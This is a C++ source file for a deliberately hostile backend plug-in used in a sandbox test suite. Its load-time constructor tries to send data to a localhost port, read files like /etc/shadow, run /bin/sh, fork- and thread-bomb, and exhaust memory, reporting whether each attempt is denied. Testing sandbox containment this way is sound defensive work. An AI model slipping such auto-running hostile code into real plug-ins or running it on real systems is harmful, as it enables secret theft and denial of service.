// SPDX-License-Identifier: Apache-2.0
// A hostile compute backend for tests/e2e/suites/sandbox.bash: its load-time constructor, run in
// whatever process loads it (a trainer), tries what a malicious vendor plug-in would, and says on
// stderr what came of each attempt ("hostile: NAME: denied (why)" or "hostile: NAME: DONE ...").
// Driven by the environment, which the trainer inherits:
//   HOSTILE_PORT      TCP and UDP port on 127.0.0.1 to reach
//   HOSTILE_READ      colon-separated files to read (another site's data, a key, /etc/shadow)
//   HOSTILE_DROP      a file to create (and, with .sh appended, the shell's)
//   HOSTILE_BOMB      set: fork until it fails, then start threads until that fails
//   HOSTILE_MEMORY_MB allocate and touch this many MiB
// As a backend it offers one device, "hostile", that can make no model.
#include "backends/backend.h"

#include <arpa/inet.h>
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <string>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

namespace {

void
say(const std::string& what, bool done, const std::string& detail)
{
  std::fprintf(stderr, "hostile: %s: %s (%s)\n", what.c_str(), done ? "DONE" : "denied", detail.c_str());
}

std::string
why()
{
  return std::strerror(errno);
}

void
reach(int type, int port)
{
  const char* name = type == SOCK_STREAM ? "tcp connect" : "udp send";
  const int fd = ::socket(AF_INET, type, 0);
  if (fd < 0) {
    say(name, false, "socket: " + why());
    return;
  }
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_port = htons(static_cast<std::uint16_t>(port));
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (type == SOCK_STREAM) {
    const int rc = ::connect(fd, reinterpret_cast<const sockaddr*>(&a), sizeof a);
    say(name, rc == 0, rc == 0 ? "connected" : "connect: " + why());
    if (rc == 0) {
      (void)!::write(fd, "stolen\n", 7);
    }
  } else {
    const auto rc = ::sendto(fd, "stolen\n", 7, 0, reinterpret_cast<const sockaddr*>(&a), sizeof a);
    say(name, rc == 7, rc == 7 ? "sent" : "sendto: " + why());
  }
  ::close(fd);
}

void*
park(void*)
{
  for (;;) {
    ::sleep(1000);
  }
}

__attribute__((constructor)) void
attack()
{
  if (const char* port = std::getenv("HOSTILE_PORT")) {
    reach(SOCK_STREAM, std::atoi(port));
    reach(SOCK_DGRAM, std::atoi(port));
  }
  if (const char* files = std::getenv("HOSTILE_READ")) {
    std::string rest = files;
    while (!rest.empty()) {
      const auto colon = rest.find(':');
      const auto file = rest.substr(0, colon);
      rest = colon == std::string::npos ? "" : rest.substr(colon + 1);
      const int fd = ::open(file.c_str(), O_RDONLY);
      char buf[16];
      const auto n = fd < 0 ? -1 : ::read(fd, buf, sizeof buf);
      say("read " + file, n > 0, n > 0 ? std::to_string(n) + " bytes" : "open/read: " + why());
      if (fd >= 0) {
        ::close(fd);
      }
    }
  }
  if (const char* drop = std::getenv("HOSTILE_DROP")) {
    const int fd = ::open(drop, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    say(std::string("create ") + drop, fd >= 0, fd >= 0 ? "created" : "open: " + why());
    if (fd >= 0) {
      ::close(fd);
    }
    const std::string command = std::string("echo pwned > ") + drop + ".sh";
    const pid_t pid = ::fork();
    if (pid == 0) {
      ::execl("/bin/sh", "sh", "-c", command.c_str(), static_cast<char*>(nullptr));
      ::_exit(127);
    }
    if (pid < 0) {
      say("fork and execve /bin/sh", false, "fork: " + why());
    } else {
      int status = 0;
      ::waitpid(pid, &status, 0);
      say("fork and execve /bin/sh", WIFEXITED(status) && WEXITSTATUS(status) == 0, "the shell ran");
    }
    char* argv[] = {const_cast<char*>("sh"), const_cast<char*>("-c"), const_cast<char*>(command.c_str()), nullptr};
    char* envp[] = {nullptr};
    ::execve("/bin/sh", argv, envp); // returns only if denied
    say("execve /bin/sh", false, "execve: " + why());
  }
  if (std::getenv("HOSTILE_BOMB") != nullptr) {
    int forks = 0;
    for (; forks < 10000; ++forks) {
      const pid_t pid = ::fork();
      if (pid == 0) {
        park(nullptr);
      }
      if (pid < 0) {
        break;
      }
    }
    say("fork bomb", forks >= 10000, std::to_string(forks) + " processes, then: " + why());
    int threads = 0;
    for (; threads < 10000; ++threads) {
      pthread_t t{};
      const int rc = ::pthread_create(&t, nullptr, park, nullptr);
      if (rc != 0) {
        errno = rc;
        break;
      }
    }
    say("thread bomb", threads >= 10000, std::to_string(threads) + " threads, then: " + why());
  }
  if (const char* mb = std::getenv("HOSTILE_MEMORY_MB")) {
    const auto bytes = static_cast<std::size_t>(std::atol(mb)) << 20;
    std::fprintf(stderr, "hostile: allocating %s MiB\n", mb);
    void* p = ::mmap(nullptr, bytes, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED) {
      say("allocate", false, "mmap: " + why());
    } else {
      std::memset(p, 1, bytes);
      say("allocate", true, std::string(mb) + " MiB touched");
    }
  }
}

const char* g_error = "";

size_t
device_count()
{
  return 1;
}

const char*
device_name(size_t i)
{
  return i == 0 ? "hostile" : nullptr;
}

const char*
last_error()
{
  return g_error;
}

void
set_threads(int32_t)
{
}

int
model_create(const char*, int32_t, const int64_t*, int64_t, uint64_t, const char*, fedl_model**)
{
  g_error = "the hostile backend makes no models";
  return FEDL_STATUS_USAGE;
}

int
model_load_torchscript(const char*, const char*, fedl_model**)
{
  g_error = "the hostile backend makes no models";
  return FEDL_STATUS_USAGE;
}

} // namespace

extern "C" __attribute__((visibility("default"))) const fedl_backend_v1*
fedl_backend_entry(uint32_t abi_version)
{
  static const fedl_backend_v1 table{FEDL_BACKEND_ABI_VERSION,
                                     "hostile",
                                     "hostile 0.0",
                                     device_count,
                                     device_name,
                                     last_error,
                                     set_threads,
                                     model_create,
                                     model_load_torchscript,
                                     nullptr,
                                     nullptr,
                                     nullptr,
                                     nullptr,
                                     nullptr,
                                     nullptr,
                                     nullptr};
  return abi_version == FEDL_BACKEND_ABI_VERSION ? &table : nullptr;
}
